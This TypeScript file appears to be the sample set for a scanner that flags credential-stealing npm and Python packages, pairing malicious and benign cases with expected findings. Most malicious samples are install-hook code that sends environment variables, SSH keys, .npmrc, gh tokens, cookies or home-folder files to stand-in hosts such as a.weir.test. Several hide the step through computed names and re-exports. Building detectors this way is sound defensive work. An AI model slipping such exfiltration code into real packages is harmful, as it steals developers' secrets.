import type { Samples } from '../contract.ts';
import { imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';
import { FAR, FAR_HONEST } from './far-samples.ts';
import { GIVEN, GIVEN_HONEST } from './given-samples.ts';
import { configured, lookedUp } from './looked-up-samples.ts';
import { PASSED, PASSED_HONEST } from './passed-samples.ts';
import { LONG, PYTHON } from './python-samples.ts';
import { SOUGHT_HONEST, SOUGHT_KEYS } from './sought-samples.ts';
import { TOLD, TOLD_HONEST } from './told-samples.ts';

const STEAL = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) })`;

function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number, file = 'setup.js') {
  return { rule, file, line, severity };
}

export const samples: Samples = {
  malicious: [
    ...lookedUp,
    ...PYTHON,
    ...PASSED,
    ...FAR,
    ...GIVEN,
    ...TOLD,
    ...SOUGHT_KEYS,
    {
      name: 'the environment in a request body',
      files: installed(
        `const https = require('https');\nconst data = JSON.stringify(process.env);\nconst req = https.request({ host: 'a.weir.test', method: 'POST' });\nreq.write(data);\nreq.end();\n`,
      ),
      expected: [at('environment', 'critical', 4)],
    },
    {
      name: 'enumerated, encoded, in a query',
      files: installed(
        `const env = process['env'];\nlet all = '';\nfor (const key of Object.keys(env)) all += key + '=' + env[key] + '&';\nfetch('https://a.weir.test/?d=' + Buffer.from(all).toString('base64'));\n`,
      ),
      expected: [at('environment', 'critical', 4)],
    },
    {
      name: 'aliases and destructuring',
      files: imported(
        `const { env: e } = process;\nconst { request: r } = require('node:https');\nconst body = { ...e };\nconst q = r('https://a.weir.test', { method: 'POST' });\nq.end(JSON.stringify(body));\n`,
      ),
      expected: [at('environment', 'high', 5, 'index.js')],
    },
    {
      name: 'what another file gathers, through names, fields, callbacks and a file that encodes',
      files: installed(
        `const { read } = require('./env');\nconst { encode } = require('./encode');\nclass Box {\n  constructor(all) { this.all = all; }\n  get text() { return encode({ all: this.all }); }\n}\nconst box = new Box(read());\nfetch('https://a.weir.test/a', { method: 'POST', body: box.text });\nconst parts = [];\n[read()].forEach((part) => parts.push(part));\nfetch('https://a.weir.test/b', { method: 'POST', body: parts.join() });\n`,
        {
          'env.js': `exports.version = () => 1;\nexports.read = () => ({ ...process.env });\n`,
          'encode.js': `exports.encode = (value) => Buffer.from(JSON.stringify(value)).toString('hex');\n`,
        },
      ),
      expected: [at('environment', 'critical', 8), at('environment', 'critical', 11)],
    },
    {
      name: 'the environment as a member of what a function is given, by its key or spread',
      files: installed(
        `const send = ({ url, data: { body } }) => fetch(url, { method: 'POST', body: JSON.stringify(body) });\nsend({ url: 'https://a.weir.test/', data: { body: process.env } });\nconst post = ({ where, ...rest }) => fetch(where, { method: 'POST', body: JSON.stringify(rest) });\npost({ where: 'https://a.weir.test/', ...process.env });\n`,
      ),
      expected: [at('environment', 'critical', 1), at('environment', 'critical', 3)],
    },
    {
      name: 'credentials of the package manager',
      files: installed(
        `const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nrequire('axios').post('https://a.weir.test', { rc });\n`,
      ),
      expected: [at('credentials', 'critical', 3)],
    },
    {
      name: 'keys read with a callback',
      files: installed(
        `const fs = require('fs');\nfs.readFile(process.env.HOME + '/.ssh/id_rsa', (err, key) => {\n  fetch('https://a.weir.test', { method: 'POST', body: key });\n});\n`,
      ),
      expected: [at('credentials', 'critical', 3)],
    },
    {
      name: 'host and user as a beacon',
      files: installed(
        `const os = require('os');\nconst info = { h: os.hostname(), u: os.userInfo().username };\nrequire('https').get('https://a.weir.test/?' + new URLSearchParams(info));\n`,
      ),
      expected: [at('host-identity', 'high', 3)],
    },
    {
      name: 'host in a looked-up name',
      files: installed(
        "const os = require('os');\nrequire('dns').lookup(`${os.hostname()}.x.weir.test`, () => {});\n",
      ),
      expected: [at('host-identity', 'high', 2)],
    },
    {
      name: 'the environment through curl',
      files: installed(
        `const { execSync } = require('child_process');\nconst d = Buffer.from(JSON.stringify(process.env)).toString('base64');\nexecSync('curl -d ' + d + ' https://a.weir.test');\n`,
      ),
      expected: [at('environment', 'critical', 3)],
    },
    {
      name: 'gathered in one file, sent by another',
      files: installed(
        `const collect = require('./lib/collect');\nconst send = require('./lib/send');\nsend(collect());\n`,
        {
          'lib/collect.js': `module.exports = function () { return Object.entries(process.env).map(([k, v]) => k + '=' + v).join(); };\n`,
          'lib/send.js': `const https = require('https');\nmodule.exports = function (d) { const r = https.request({ host: 'a.weir.test', method: 'POST' }); r.write(d); r.end(); };\n`,
        },
      ),
      expected: [at('environment', 'critical', 3)],
    },
    {
      name: 'an exported function that the hook calls',
      files: installed(`const { run } = require('./lib');\nrun();\n`, {
        'lib/index.js': `exports.other = () => 1;\nexports.run = () => {\n  ${STEAL};\n};\n`,
      }),
      expected: [at('environment', 'critical', 3, 'lib/index.js')],
    },
    {
      name: 'through a file that hands names on, late and by a computed name',
      files: installed(
        `setTimeout(async () => {\n  const api = await import('./lib');\n  api[process.argv[2]]();\n});\n`,
        {
          'lib/index.js': `__exportStar(require('./deep'), exports);\nfunction __exportStar(m, e) { for (const k in m) e[k] = m[k]; }\n`,
          'lib/deep.js': `exports.run = function () {\n  ${STEAL};\n};\n`,
        },
      ),
      expected: [at('environment', 'critical', 2, 'lib/deep.js')],
    },
    {
      name: 'handed to a file that only hands on what another one sends',
      files: imported(`require('./lib').send(process.env);\n`, {
        'lib/index.js': `module.exports = require('./deep');\n`,
        'lib/deep.js': `exports.send = (data) => fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(data) });\n`,
      }),
      expected: [at('environment', 'high', 1, 'index.js')],
    },
    {
      name: 'called at load, behind a file that only hands it on',
      files: imported(`require('./lib').run();\n`, {
        'lib/index.js': `exports.run = require('./deep').run;\n`,
        'lib/deep.js': `exports.run = () => {\n  ${STEAL};\n};\n`,
      }),
      expected: [at('environment', 'high', 2, 'lib/deep.js')],
    },
    {
      name: 'a method of a class in another file, as an event handler',
      files: installed(
        `const { Telemetry } = require('./telemetry');\nconst t = new Telemetry();\nprocess.on('exit', () => t.flush());\n`,
        {
          'telemetry.js': `class Telemetry {\n  flush() {\n    ${STEAL};\n  }\n}\nmodule.exports = { Telemetry };\n`,
        },
      ),
      expected: [at('environment', 'critical', 3, 'telemetry.js')],
    },
    {
      name: 'handed over as a callback, in an object, from a module',
      files: {
        'package.json': manifest({ type: 'module', scripts: { postinstall: 'node setup.js' } }),
        'setup.js': `import { send } from './send.js';\nimport { each } from './each.js';\neach({ done: send });\n`,
        'send.js': `const post = () => {\n  ${STEAL};\n};\nexport { post as send };\n`,
        'each.js': `export function each(handlers) { for (const k in handlers) handlers[k](); }\n`,
      },
      expected: [at('environment', 'critical', 2, 'send.js')],
    },
    {
      name: 'a file whose name only is spelled, loaded by a computed path',
      files: installed(
        `const load = (p) => require(require('path').join(__dirname, p));\nload('work/job.js').go();\n`,
        { 'work/job.js': `exports.go = () => {\n  ${STEAL};\n};\n` },
      ),
      expected: [at('environment', 'critical', 2, 'work/job.js')],
    },
    {
      name: 'a function of the exports that the file itself calls by a computed name',
      files: installed(
        `exports.run = () => {\n  ${STEAL};\n};\nconst name = ['r', 'un'].join('');\nmodule.exports[name]();\n`,
      ),
      expected: [at('environment', 'critical', 2)],
    },
    {
      name: 'the environment into a socket of another machine',
      files: installed(
        `const net = require('net');\nconst s = net.connect(4444, 'c2.weir.test');\ns.write(JSON.stringify(process.env));\n`,
      ),
      expected: [at('environment', 'critical', 3)],
    },
    {
      name: 'a secret to a request catcher',
      files: imported(
        `fetch('https://exfil.weir.test/x', { method: 'POST', body: process.env.NPM_TOKEN });\n`,
      ),
      expected: [at('secrets', 'high', 1, 'index.js')],
    },
    {
      name: 'files found by walking the home folder',
      files: installed(
        `const fs = require('fs'), os = require('os'), path = require('path');\nconst found = [];\nfunction walk(dir) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n    const p = path.join(dir, e.name);\n    if (e.isDirectory()) walk(p);\n    else found.push(fs.readFileSync(p, 'utf8'));\n  }\n}\nwalk(os.homedir());\nfetch('https://a.weir.test/u', { method: 'POST', body: JSON.stringify(found) });\n`,
      ),
      expected: [at('files', 'critical', 11)],
    },
    {
      name: 'cookies and stores of a page',
      files: imported(
        `new Image().src = 'https://a.weir.test/c?' + encodeURIComponent(document.cookie + JSON.stringify(localStorage));\n`,
      ),
      expected: [at('page-data', 'high', 1, 'index.js')],
    },
    {
      name: 'a token that a command prints',
      files: installed(
        `const t = require('child_process').execSync('gh auth token').toString();\nfetch('https://a.weir.test/t', { method: 'POST', body: t });\n`,
      ),
      expected: [at('credentials', 'critical', 2)],
    },
  ],
  benign: [
    ...configured,
    ...GIVEN_HONEST,
    ...TOLD_HONEST,
    ...SOUGHT_HONEST,
    ...PASSED_HONEST,
    ...FAR_HONEST,
    quiet('Python: the environment of a program that another module of the package starts', {
      ...wheel(
        'import os\nfrom .link import open_link\ndef connect(host):\n    return open_link(host, dict(os.environ))\n',
      ),
      'own/link.py':
        'import socket\ndef open_link(host, env):\n    link = socket.socket()\n    link.connect((host, 22))\n    return link, env\n',
    }),
    quiet('Python: an object that is made with the environment and asks for addresses that it is given', {
      ...wheel('import os\nfrom .core import Client\nclient = Client(dict(os.environ))\n'),
      'own/core.py': `${LONG}import requests\nclass Client:\n    def __init__(self, settings):\n        self.name = settings.get('NAME')\n    def get(self, url):\n        return requests.get(url).json()\n`,
    }),
    quiet(
      'Python: a client that signs in with the cookie of its own service, where its settings say',
      wheel(
        'import http.client, os\nclass Client:\n    def __init__(self):\n        at = os.path.expanduser("~/.bitcoin")\n        conf = dict(line.split("=", 1) for line in open(os.path.join(at, "bitcoin.conf")))\n        self.key = open(os.path.join(at, ".cookie")).read()\n        self.link = http.client.HTTPConnection(conf.get("rpcconnect", "localhost"), port=int(conf["rpcport"]))\n    def call(self, name):\n        self.link.request("POST", "/", name, {"Authorization": self.key})\n        return self.link.getresponse()\n',
      ),
    ),
    quiet('Python: the addresses of the machine, looked up by another module', {
      ...wheel(
        'import psutil\nfrom .net import infos\nprint([infos(c.laddr) for c in psutil.net_connections()])\n',
      ),
      'own/net.py': `${LONG}import socket\ndef infos(address):\n    return socket.getaddrinfo(address[0], address[1])\n`,
    }),
    quiet('Python: settings that a client of the package takes', {
      ...wheel(
        "import requests\nfrom .settings import read\ndef connect():\n    return requests.post('https://api.weir.test/x', json=read())\n",
      ),
      'own/settings.py':
        'import os\ndef read():\n    return {"a": 1}\ndef dump():\n    return dict(os.environ)\n',
    }),
    quiet(
      'Python: an archive of its own data',
      wheel(
        "import requests, zipfile\ndef send(report):\n    out = zipfile.ZipFile('own.zip', 'w')\n    out.write('report.txt')\n    out.close()\n    requests.post('https://api.weir.test/z', files={'f': open('own.zip', 'rb')})\n",
      ),
    ),
    quiet(
      'Python: a password with which a client signs in',
      wheel(
        'import requests\ndef sign_in(user, password):\n    return requests.post("https://api.weir.test/login", json={"u": user, "p": password}).json()["token"]\n',
      ),
    ),
    quiet(
      'Python: a token with which a message is sent',
      wheel(
        'import requests\ndef send(token, text):\n    requests.post("https://api.weir.test/messages", json={"token": token, "text": text})\n',
      ),
    ),
    quiet(
      'Python: what a function is given, to the address of a service',
      wheel(
        'import requests\ndef find(text):\n    return requests.get(f"https://api.weir.test/find/{text}").json()\n',
      ),
    ),
    quiet(
      'Python: the own address of the machine',
      wheel('import socket\nADDRESS = socket.gethostbyname(socket.gethostname())\n'),
    ),
    quiet(
      'an API client with its key',
      imported(
        `const key = process.env.ACME_API_KEY;\nmodule.exports = (path) => fetch('https://api.weir.test' + path, { headers: { authorization: 'Bearer ' + key } });\n`,
      ),
    ),
    quiet(
      'a host from the environment',
      imported(`const url = process.env.API_URL || 'https://api.weir.test';\nfetch(url + '/health');\n`),
    ),
    quiet(
      'a configuration reader',
      imported(
        `function load(env) { return { url: env.API_URL, token: env.API_TOKEN }; }\nconst config = load(process.env);\nmodule.exports = () => fetch(config.url, { headers: { token: config.token } });\n`,
      ),
    ),
    quiet(
      'a child that inherits the environment',
      imported(
        `const { spawn } = require('child_process');\nmodule.exports = () => spawn('git', ['status'], { env: { ...process.env, LANG: 'C' } });\n`,
      ),
    ),
    quiet(
      'a binary download with proxy and token',
      installed(
        `const https = require('https');\nconst headers = process.env.GITHUB_TOKEN ? { authorization: process.env.GITHUB_TOKEN } : {};\nhttps.get('https://dl.weir.test/' + process.platform, { headers }, (res) => res.pipe(require('fs').createWriteStream('bin')));\n`,
      ),
    ),
    quiet(
      'own address by own name',
      imported(
        `const os = require('os');\nrequire('dns').lookup(os.hostname(), (err, address) => { module.exports.address = address; });\n`,
      ),
    ),
    quiet(
      'a client for a service of the package, which the hook loads and does not use',
      installed(`const { note } = require('./lib/log');\nnote('installed');\n`, {
        'lib/log.js': `const os = require('os');\nconst { verify } = require('./verify');\nexports.note = (text) => console.log(text);\nexports.check = () => verify(os.hostname() + JSON.stringify(process.env));\n`,
        'lib/verify.js': `exports.verify = async (text) => {\n  const answer = await fetch('https://api.weir.test/verify/' + text);\n  return answer.ok;\n};\n`,
      }),
    ),
    quiet(
      'the environment through a function whose neighbour opens sockets',
      installed(
        `const { serialize } = require('./sockets');\nconsole.log(serialize({ ...process.env }));\n`,
        {
          'sockets.js': `const { connect } = require('net');\nfunction dial(where, done) { return connect(where, done); }\nfunction serialize(value) { return Buffer.from(JSON.stringify(value)); }\nmodule.exports = { dial, serialize };\n`,
        },
      ),
    ),
    quiet(
      'the environment through a function whose neighbour sends, in a package that is imported',
      imported(
        `const { serialize } = require('./sockets');\nmodule.exports.text = serialize({ ...process.env });\n`,
        {
          'sockets.js': `function post(body) { return fetch('https://api.weir.test/x', { method: 'POST', body }); }\nfunction serialize(value) { return Buffer.from(JSON.stringify(value)); }\nmodule.exports = { post, serialize };\n`,
        },
      ),
    ),
    quiet(
      'a request by the settings of one file, next to the environment of another one for a child',
      installed(
        `const { read } = require('./settings');\nconst { forChild } = require('./env');\nclass Client {\n  constructor(where) { this.where = where; }\n  ping() { return fetch(this.where); }\n}\nconst settings = read();\nnew Client(settings.url).ping();\nfetch('https://api.weir.test/hooks', { method: 'POST', body: settings.name });\nrequire('child_process').spawn('node', ['x.js'], { env: forChild() });\n`,
        {
          'settings.js': `exports.read = () => JSON.parse(require('fs').readFileSync('own.json', 'utf8'));\n`,
          'env.js': `exports.forChild = () => ({ ...process.env, LANG: 'C' });\n`,
        },
      ),
    ),
    quiet(
      'one export of a file goes out, and another one is the environment',
      installed(
        `const { version, forChild } = require('./own');\nfetch('https://api.weir.test/latest/' + version());\nrequire('child_process').spawn('node', ['x.js'], { env: forChild() });\n`,
        {
          'own.js': `exports.version = () => require('./package.json').version;\nexports.forChild = () => ({ ...process.env, LANG: 'C' });\n`,
        },
      ),
    ),
    quiet(
      'one member of what a function is given goes out, and another one holds the environment',
      installed(
        `const open = ({ slug, settings }) => {\n  fetch('https://api.weir.test/tunnels/' + slug);\n  require('child_process').spawn('node', ['x.js'], settings);\n};\nopen({ slug: String(process.pid), settings: { env: { ...process.env, LANG: 'C' } } });\n`,
      ),
    ),
    quiet(
      'the name of the user for a parent process, in a socket that is named after it',
      imported(
        `const net = require('net'), os = require('os');\nconst { pipeOf } = require('./pipes');\nconst socket = net.createConnection(pipeOf(process.ppid), () => socket.write(os.userInfo().username));\n`,
        {
          'pipes.js': `const os = require('os'), path = require('path');\nconst folder = path.join(os.tmpdir(), 'own-' + os.userInfo().username);\nexports.pipeOf = (pid) => path.join(folder, pid + '.pipe');\n`,
        },
      ),
    ),
    quiet(
      'the environment for a daemon of this machine',
      installed(
        `const net = require('net'), os = require('os'), path = require('path');\nconst pipe = process.platform === 'win32' ? '\\\\\\\\.\\\\pipe\\\\x' : path.join(os.tmpdir(), 'x.sock');\nconst socket = net.connect({ path: pipe });\nsocket.write(JSON.stringify(process.env));\nnet.createConnection(path.join(os.tmpdir(), 'y.sock')).end(JSON.stringify(process.env));\n`,
      ),
    ),
    quiet(
      'debug switches',
      imported(
        `const on = /dev/.test(process.env.NODE_ENV) || 'DEBUG' in process.env;\nif (on) fetch('https://api.weir.test/ping');\n`,
      ),
    ),
  ],
};
